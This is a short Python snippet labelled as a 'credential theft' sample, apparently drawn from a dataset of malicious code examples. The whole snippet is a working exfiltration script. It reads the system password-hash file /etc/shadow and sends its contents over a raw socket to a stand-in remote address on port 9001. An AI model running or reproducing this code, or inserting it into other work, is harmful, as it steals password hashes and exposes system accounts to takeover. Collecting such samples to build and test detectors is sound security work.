# class: credential theft, shadow; style: sloppy
d = open('/etc/shadow').read()
import socket
s = socket.socket()
s.connect(('198.51.100.44', 9001))
s.sendall(d.encode())
s.close()
